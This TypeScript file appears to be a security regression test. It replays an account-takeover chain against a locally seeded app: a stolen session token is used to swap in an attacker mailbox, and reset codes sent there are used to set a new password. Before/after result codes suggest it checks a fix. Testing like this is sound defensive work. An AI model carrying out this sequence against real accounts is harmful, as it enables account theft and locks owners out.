// A stolen session becomes a stolen account: with nothing but the token of a session that s36 opened an hour ago, a
// mailbox of the attacker's own replaces the account's e-mail, and a new password is set by a code to it. before:
// replaced the e-mail: 10000, code for a new password: 10000, the owner's password: 20001, the attacker's: 10000 after:
// replaced the e-mail: 20317, code for a new password: 20010, the owner's password: 10000, the attacker's: 20001
import { createHash } from 'node:crypto'
import pg from 'pg'
import { leadingZeros, puzzlePrefix, puzzleText } from '#contract/features/account/puzzle.ts'
import { demoPassword, students } from '#seed/people.ts'
import { openTarget } from './target.ts'

const target = await openTarget()
const own = 'attacker@elsewhere.example'
const password = 'Stolen&2026'

/** What a script computes in the place of reading a picture. */
async function picture() {
  const { data } = await target.call('/UserApi/getFigureCode', '', { type: 'email' })
  const { challenge = '', bits = 0 } = (data?.puzzle ?? {}) as { challenge?: string; bits?: number }
  for (let attempt = 0; ; attempt++)
    if (leadingZeros(createHash('sha256').update(puzzleText(challenge, attempt)).digest()) >= bits)
      return { sessionid: data?.sessionid, verify: puzzlePrefix + attempt }
}

/** Letters that went to somebody, newest first. */
async function lettersTo(to: string) {
  const { data } = await target.call('/OperatorApi/getOutbox', await target.login('admin'))
  return ((data?.list ?? []) as { to: string; text: string }[]).filter(letter => letter.to === to)
}

async function codeToOwn(type: string) {
  const before = (await lettersTo(own)).length
  await target.call('/UserApi/sendEmailCode', '', { ...(await picture()), email: own, type })
  for (let wait = 0; wait < 50; wait++) {
    const arrived = await lettersTo(own)
    if (arrived.length > before) return /\b\d{6}\b/.exec(arrived[0]?.text ?? '')?.[0]
    await new Promise(resolve => setTimeout(resolve, 200))
  }
  return undefined
}

const stolen = await target.login('s36')
const client = new pg.Client({ connectionString: target.postgres.url })
await client.connect()
await client.query(`update session set created_at = created_at - interval '1 hour'`)

const replaced = await target.call('/UserApi/updateEmailByVerifyCode', stolen, {
  email: own,
  code: await codeToOwn('reg'),
})
// The minute between two codes to one place.
await client.query(`delete from counter where key like 'code:wait:%'`)
const reset = { email: own, code: await codeToOwn('forget') }
const grant = await target.call('/UserApi/forgetPasswordByEmail', '', reset)
await target.call('/UserApi/resetPassword', '', { ...grant.data, password })
const phone = students[35]?.phone
const asOwner = await target.call('/UserApi/login', '', { email: phone, password: demoPassword })
const asAttacker = await target.call('/UserApi/login', '', { email: phone, password })
console.log(
  `replaced the e-mail: ${replaced.code}, code for a new password: ${grant.code}, the owner's password: ${asOwner.code}, ` +
    `the attacker's: ${asAttacker.code}`,
)
await client.end()
await target.stop()
